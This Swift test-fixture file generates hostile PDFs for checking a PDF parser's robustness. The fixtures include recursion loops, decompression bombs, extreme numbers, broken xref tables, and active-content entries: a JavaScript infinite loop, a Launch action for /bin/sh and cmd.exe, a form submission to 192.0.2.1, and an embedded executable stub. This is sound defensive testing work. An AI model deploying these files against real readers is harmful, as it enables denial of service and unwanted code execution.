/// PDFs whose objects loop, nest without end, lie about lengths, or want something run.
enum HostileStructures {
    static func all() -> [(name: String, bytes: [UInt8])] { loops + storms + boxes + lengths + active }

    private static func drawn(
        _ contents: String, resources: String = "", _ extra: [(String, [UInt8]?)] = []
    ) -> [UInt8] {
        var file = HostilePDF()
        file.contents = HostilePDF.text(contents)
        file.resources = resources
        file.extra = extra
        return file.bytes
    }

    private static let form = "<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject "

    private static var loops: [(String, [UInt8])] {
        let fan = (0..<30).map { level in
            ("\(form) << /F \(level + 6) 0 R >> >> ", Optional(HostilePDF.text("/F Do /F Do")))
        }
        var own = HostilePDF()
        own.kids = "[2 0 R]"
        var chain = HostilePDF()
        chain.kids = "[5 0 R]"
        chain.extra = (0..<1500).map { ("<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [\($0 + 6) 0 R] >>", nil) }
        let glyph =
            "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 "
            + "/Widths [9] /Encoding << /Differences [65 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>"
        let tile =
            "<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 2 2] /XStep 0.001 /YStep 0.001 "
            + "/Resources << /Pattern << /P 5 0 R >> >> "
        return [
            ("pages-of-themselves.pdf", own.bytes),
            ("pages-deep.pdf", chain.bytes),
            (
                "drawing-itself.pdf",
                drawn(
                    "/F Do", resources: "/XObject << /F 5 0 R >>",
                    [("\(form) << /F 5 0 R >> >> ", HostilePDF.text("/F Do"))])
            ),
            (
                "drawing-doubled.pdf",
                drawn(
                    "/F Do", resources: "/XObject << /F 5 0 R >>",
                    fan + [("\(form) << >> >> ", HostilePDF.text("0 0 9 9 re f"))])
            ),
            (
                "letter-in-itself.pdf",
                drawn(
                    "BT /F 9 Tf (A) Tj ET", resources: "/Font << /F 5 0 R >>",
                    [(glyph, nil), ("<< ", HostilePDF.text("9 0 d0 BT /F 9 Tf (AA) Tj ET"))])
            ),
            (
                "pattern-in-itself.pdf",
                drawn(
                    "/Pattern cs /P scn 0 0 612 792 re f", resources: "/Pattern << /P 5 0 R >>",
                    [(tile, HostilePDF.text("/Pattern cs /P scn 0 0 2 2 re f"))])
            ),
            (
                "function-of-itself.pdf",
                drawn(
                    "/S sh",
                    resources:
                        "/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 612 792] /Function 5 0 R >> >>",
                    [
                        (
                            "<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>",
                            nil
                        )
                    ])
            ),
            (
                "parent-loop.pdf",
                drawn("0 0 9 9 re f").replacing(
                    HostilePDF.text("/Kids [3 0 R]"), with: HostilePDF.text("/Parent 2 0 R /Kids [3 0 R]"))
            ),
        ]
    }

    private static var storms: [(String, [UInt8])] {
        var bomb = HostilePDF()
        bomb.contentsFilter = "/Filter [/FlateDecode /FlateDecode]"
        bomb.contents = DeflateBomb.ofZerosTwice(bytes: 400_000_000)
        var deep = HostilePDF()
        deep.contentsFilter = "/Filter /FlateDecode"
        deep.contents = DeflateBomb.of(HostilePDF.text("q 1 0 0 1 0 0"), bytes: 3_000_000)
        let array = String(repeating: "[", count: 40_000)
        let calculator = "{ " + String(repeating: "{ dup } if ", count: 3000) + "}"
        return [
            ("contents-bomb.pdf", bomb.bytes),
            ("contents-deep.pdf", deep.bytes),
            ("contents-arrays.pdf", drawn(array)),
            ("contents-noise.pdf", drawn(String(decoding: HostilePDF.noise(4000, seed: 8), as: UTF8.self))),
            ("dashes.pdf", drawn("[0.0001 0.0001] 0 d 0.1 w 0 0 m 612 792 l S 0 792 m 612 0 l S")),
            (
                "numbers.pdf",
                drawn("1e38 0 0 1e38 1e38 -1e38 cm 99999999999999999999 w 0 0 1e30 1e30 re S nan inf m 5 5 l S")
            ),
            ("array-deep.pdf", drawn("0 0 9 9 re f", resources: "/ExtGState << /G \(array) >>")),
            (
                "calculator.pdf",
                drawn(
                    "/S sh",
                    resources:
                        "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Function 5 0 R >> >>",
                    [("<< /FunctionType 4 /Domain [0 1 0 1] /Range [0 1] ", HostilePDF.text(calculator))])
            ),
            (
                "font-noise.pdf",
                drawn(
                    "BT /F 24 Tf 72 400 Td (ABC) Tj ET", resources: "/Font << /F 5 0 R >>",
                    [
                        (
                            "<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R /FirstChar 65 /LastChar 67 /Widths [9 9 9] >>",
                            nil
                        ),
                        ("<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>", nil),
                        ("<< ", [0, 1, 0, 0, 0, 9] + HostilePDF.noise(900, seed: 9)),
                    ])
            ),
            (
                "font-map-loop.pdf",
                drawn(
                    "BT /F 24 Tf 72 400 Td <0041> Tj ET", resources: "/Font << /F 5 0 R >>",
                    [
                        (
                            "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R /DescendantFonts [5 0 R] >>",
                            nil
                        ),
                        ("<< /Type /CMap /UseCMap 6 0 R ", HostilePDF.text("begincmap endcmap")),
                    ])
            ),
        ]
    }

    private static var boxes: [(String, [UInt8])] {
        let all = [
            ("none", "[0 0 0 0]"), ("negative", "[612 792 0 0]"), ("tiny", "[0 0 0.01 0.01]"),
            ("flat", "[0 0 10000 0.5]"),
            ("endless", "[-1e30 -1e30 1e30 1e30]"), ("words", "[/a /b /c /d]"), ("short", "[0 0 612]"),
            ("tall", "[0 0 3 14400]"),
        ]
        var boxes = all.map { name, box in
            var file = HostilePDF()
            file.box = box
            return ("box-\(name).pdf", file.bytes)
        }
        var unit = HostilePDF()
        unit.page = "/UserUnit 75000"
        var turned = HostilePDF()
        turned.page = "/Rotate 37"
        boxes += [("box-unit.pdf", unit.bytes), ("box-turned.pdf", turned.bytes)]
        return boxes
    }

    private static var lengths: [(String, [UInt8])] {
        let sound = HostilePDF().bytes
        var counted = HostilePDF()
        counted.count = 1_000_000_000
        func changed(_ from: String, _ to: String) -> [UInt8] {
            sound.replacing(HostilePDF.text(from), with: HostilePDF.text(to))
        }
        return [
            ("length-short.pdf", changed("/Length 37", "/Length 2 ")),
            ("length-long.pdf", changed("/Length 37", "/Length 99999999")),
            ("length-of-itself.pdf", changed("/Length 37", "/Length 4 0 R")),
            ("pages-claimed.pdf", counted.bytes),
            ("table-elsewhere.pdf", changed("startxref\n", "startxref\n9")),
            ("table-gone.pdf", changed("xref\n0 ", "xxxx\n0 ")),
            ("table-loop.pdf", changed("/Root 1 0 R", "/Root 1 0 R /Prev 15")),
            ("root-gone.pdf", changed("/Root 1 0 R", "/Root 77 0 R")),
            ("header-only.pdf", HostilePDF.text("%PDF-1.7\n")),
            ("zeros.pdf", HostilePDF.text("%PDF-1.4\n") + [UInt8](repeating: 0, count: 5000)),
            ("behind-noise.pdf", HostilePDF.noise(900, seed: 10).map { $0 | 0x80 } + sound),
            ("cut-in-table.pdf", Array(sound.dropLast(90))),
        ]
    }

    /// Nothing of these may be run, opened or fetched; the page is read as it is drawn.
    private static var active: [(String, [UInt8])] {
        func catalog(_ entry: String, _ extra: [(String, [UInt8]?)] = []) -> [UInt8] {
            var file = HostilePDF()
            file.catalog = entry
            file.extra = extra
            return file.bytes
        }
        return [
            ("script.pdf", catalog("/OpenAction << /S /JavaScript /JS (while (true) { app.alert(1); }) >>")),
            ("launch.pdf", catalog("/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>")),
            ("submit.pdf", catalog("/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")),
            (
                "attachment.pdf",
                catalog(
                    "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
                    [
                        ("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", nil),
                        ("<< /Type /EmbeddedFile ", [0x4D, 0x5A, 0x90]),
                    ])
            ),
            (
                "xfa.pdf",
                catalog(
                    "/AcroForm << /XFA 5 0 R /Fields [] >>",
                    [("<< ", HostilePDF.text("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"))])
            ),
        ]
    }
}
